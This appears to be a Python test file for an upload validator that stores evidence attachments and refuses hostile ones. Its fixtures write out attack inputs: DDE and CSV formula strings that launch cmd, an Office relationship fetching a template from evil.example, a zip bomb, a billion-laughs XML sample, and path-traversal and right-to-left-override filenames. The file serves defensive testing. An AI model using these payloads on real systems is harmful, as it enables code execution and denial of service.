"""Evidence files: what is taken, what hostile files are told, where they lie."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.evaluation.attachments import AttachmentStore, safe_name
from dashboard.evaluation.filekinds import CHECKS, CONTENT_TYPES, AttachmentRefused
from dashboard.exports.cells import FORMULA_STARTS

LIMIT = 2 * 1024 * 1024


@pytest.fixture
def store(tmp_path: Path) -> AttachmentStore:
    return AttachmentStore(tmp_path / "attachments", LIMIT)


def chunk(kind: bytes, data: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(kind + data))
    return struct.pack(">I", len(data)) + kind + data + check


def png(width: int = 2, height: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0\0\0" * 2)
    parts = (chunk(b"IHDR", head), chunk(b"IDAT", body), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def jpg(width: int = 8, height: int = 8) -> bytes:
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x04JF" + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00\xff\xd9"


def xlsx(formula: str = "=SUM(A1:A2)") -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["平台", 1, formula])
    book.save(out)
    return out.getvalue()


def word() -> bytes:
    document, out = docx.Document(), io.BytesIO()
    document.add_paragraph("故障报告：DDE 链接已停用，vbaProject.bin 已删")
    document.save(out)
    return out.getvalue()


def zipped(base: bytes, method: int = zipfile.ZIP_DEFLATED, **parts: bytes) -> bytes:
    """An Office file with further parts, or others in place of its own."""
    out = io.BytesIO()
    names = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", method) as new:
        for part in old.infolist():
            if part.filename not in names:
                new.writestr(part.filename, old.read(part))
        for name, data in names.items():
            new.writestr(name, data)
    return out.getvalue()


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
GOOD = {
    "合同.pdf": PDF,
    "截图.png": png(),
    "照片.JPG": jpg(),
    "照片.jpeg": jpg(),
    "平台中断清单.xlsx": xlsx(),
    "故障报告.docx": word(),
    "清单.csv": "编号,时长,率\n1,-5,-3.2%\n2,—,-\n".encode("utf-8-sig"),
    "旧清单.csv": "编号,名称\n1,井盖\n".encode("gb18030"),
    "说明.txt": "全年无中断。\n".encode(),
}


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_is_kept_under_its_fingerprint(store: AttachmentStore, name: str) -> None:
    kept = store.add(name, io.BytesIO(GOOD[name]))
    suffix = name.rpartition(".")[2].lower()
    assert kept.name == name and kept.kind == {"jpeg": "jpg"}.get(suffix, suffix)
    assert kept.sha256 == hashlib.sha256(GOOD[name]).hexdigest() and kept.size == len(GOOD[name])
    place = store.path(kept.sha256)
    assert place is not None and place.read_bytes() == GOOD[name]
    assert store.intact(kept.sha256) and place.stat().st_mode & 0o077 == 0
    assert store.add("又一次." + suffix, io.BytesIO(GOOD[name])).sha256 == kept.sha256


def test_a_file_changed_on_the_disk_is_noticed(store: AttachmentStore) -> None:
    kept = store.add("合同.pdf", io.BytesIO(PDF))
    place = store.path(kept.sha256)
    assert place is not None
    place.write_bytes(PDF + b"changed")
    assert not store.intact(kept.sha256)
    place.unlink()
    assert not store.intact(kept.sha256) and store.path(kept.sha256) is None


RELS = (
    b'<Relationships xmlns="x"><Relationship Id="r1" TargetMode="External" '
    b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
BOMB = zipped(xlsx(), xl__worksheets__sheet9_dot_xml=b"0" * 40_000_000)
HOSTILE = {
    "程序.exe": (b"MZ\x90", "类型 .exe"),
    "合同.pdf.exe": (PDF, "类型 .exe"),
    "没有扩展名": (PDF, "没有扩展名"),
    "程序.pdf": (b"MZ\x90" + b"\0" * 2000, "其实是 Windows 程序"),
    "网页.png": (b"<html><script>alert(1)</script>", "其实是网页"),
    "网页.txt": (b"a\0b", "含有非文字内容"),
    "脚本.csv": (b"\x7fELF\x02\x01", "其实是 Linux 程序"),
    "换名.xlsx": (PDF, "其实是 PDF"),
    "压缩包.docx": (zipped(b"PK\x05\x06" + b"\0" * 18, a_dot_txt=b"a"), r"没有 \[Content_Types"),
    "表格.docx": (xlsx(), "没有 word/document.xml"),
    "半个.pdf": (b"%PDF-1.7\nhalf", "没有结尾 %%EOF"),
    "半个.png": (png()[:-20], "没有结尾 IEND"),
    "半个.jpg": (jpg()[:8], "JPEG 图片不完整"),
    "半个.xlsx": (xlsx()[:-400], "文件损坏"),
    "巨图.png": (png(100_000, 100_000), "100,000 × 100,000 像素"),
    "巨图.jpg": (jpg(65_000, 65_000), "65,000 × 65,000 像素"),
    "空.pdf": (b"", "空文件"),
    "宏.xlsm": (xlsx(), r"\.xlsm 可能带宏"),
    "宏.xlsx": (zipped(xlsx(), xl__vbaProject_dot_bin=b"\xd0\xcf"), "带宏或程序（xl/vbaProject"),
    "宏.docx": (zipped(word(), word__vbaProject_dot_bin=b"\xd0"), "带宏或程序（word/vba"),
    "暗宏.xlsx": (
        zipped(xlsx(), **{"[Content_Types]_dot_xml": b"vnd.ms-excel.sheet.macroEnabled.main+xml"}),
        r"带宏（\[Content_Types\].xml）",
    ),
    "四点零宏.xlsx": (zipped(xlsx(), xl__macrosheets__sheet1_dot_xml=b"<x/>"), "macrosheets"),
    "嵌程序.docx": (zipped(word(), word__embeddings__oleObject1_dot_bin=b"MZ"), "oleObject1"),
    "旧表.xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", r"\.xls 可能带宏"),
    "加密.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "旧版 Office 或加密"),
    "炸弹.xlsx": (BOMB, "疑似压缩炸弹"),
    "怪压缩.xlsx": (zipped(xlsx(), zipfile.ZIP_LZMA), "压缩方式不是 Office 所用"),
    "实体.docx": (zipped(word(), word__document_dot_xml=LAUGHS), "XML 实体定义"),
    "宽实体.docx": (
        zipped(word(), word__document_dot_xml=LAUGHS.decode().encode("utf-16")),
        "XML 实体定义",
    ),
    "外部模板.docx": (
        zipped(word(), word___rels__settings_dot_xml_dot_rels=RELS),
        "引用外部文件",
    ),
    "DDE.docx": (
        zipped(word(), word__a_dot_xml=b'<w:instrText xml:space="preserve"> DDEAUTO cmd "/k"'),
        "DDE 域",
    ),
    "DDE.xlsx": (zipped(xlsx(), xl__a_dot_xml=b'<ddeLink ddeService="cmd"/>'), "DDE 链接"),
    "公式.csv": ("名称,值\n井盖,=cmd|' /C calc'!A0\n".encode(), "第 2 行第 2 列“=cmd"),
    "公式2.csv": ("@SUM(1)\n".encode("utf-16"), "第 1 行第 1 列“@SUM"),
    "太大.txt": (b"a" * (LIMIT + 1), "超过 2 MB；应为至多 2 MB"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_told_what_is_wrong_and_nothing_is_kept(
    store: AttachmentStore, tmp_path: Path, name: str
) -> None:
    data, told = HOSTILE[name]
    with pytest.raises(AttachmentRefused, match=told) as refused:
        store.add(name, io.BytesIO(data))
    assert str(refused.value).startswith(f"附件“{name}”未接收：") and "应为" in str(refused.value)
    assert [file for file in tmp_path.rglob("*") if file.is_file()] == []


def test_a_bomb_that_lies_about_its_size_is_not_unpacked(store: AttachmentStore) -> None:
    body = bytearray(BOMB)
    true = struct.pack("<I", 40_000_000)
    while (at := body.find(true)) >= 0:
        body[at : at + 4] = struct.pack("<I", 1_000)
    with pytest.raises(AttachmentRefused, match="文件损坏"):
        store.add("谎报.xlsx", io.BytesIO(bytes(body)))


def test_a_file_of_many_parts_is_refused(store: AttachmentStore) -> None:
    many = {f"xl__m{n}_dot_xml": b"" for n in range(5_001)}
    with pytest.raises(AttachmentRefused, match=r"内含 5,0\d\d 个文件"):
        store.add("多.xlsx", io.BytesIO(zipped(xlsx(), **many)))


@pytest.mark.parametrize(
    ("given_name", "shown"),
    [
        ("../../etc/合同.pdf", "合同.pdf"),
        ("C:\\Users\\office\\..\\合同.pdf", "合同.pdf"),
        ("..合同.pdf", "合同.pdf"),
        ("合同\x00\r\n.pdf", "合同.pdf"),
        ("合\u202efdp.exe.pdf", "合fdp.exe.pdf"),
        ('合<同>"|?*:.pdf', "合_同______.pdf"),
        ("长" * 300 + ".pdf", "长" * 96 + ".pdf"),
    ],
)
def test_a_name_leads_nowhere(store: AttachmentStore, given_name: str, shown: str) -> None:
    assert store.add(given_name, io.BytesIO(PDF)).name == shown


@pytest.mark.parametrize("name", ["", "..", "/", "con.pdf", "NUL", "\u202e", "a/..", " . "])
def test_what_is_no_name_is_refused(store: AttachmentStore, name: str) -> None:
    with pytest.raises(AttachmentRefused, match="不是文件名"):
        store.add(name, io.BytesIO(PDF))


@given(st.text())
def test_no_name_has_a_folder_or_a_control_in_it(name: str) -> None:
    try:
        shown = safe_name(name)
    except AttachmentRefused:
        return
    assert 0 < len(shown) <= 100 and not set(shown) & set("/\\\0\r\n")
    assert not shown.startswith(".")


@pytest.mark.parametrize("sha256", ["../../etc/passwd", "", "A" * 64, "0" * 63])
def test_a_fingerprint_leads_nowhere_either(store: AttachmentStore, sha256: str) -> None:
    with pytest.raises(AttachmentRefused, match="不是文件指纹"):
        store.path(sha256)


def test_every_kind_has_its_content_type() -> None:
    assert set(CHECKS) == set(CONTENT_TYPES) and "=" in FORMULA_STARTS
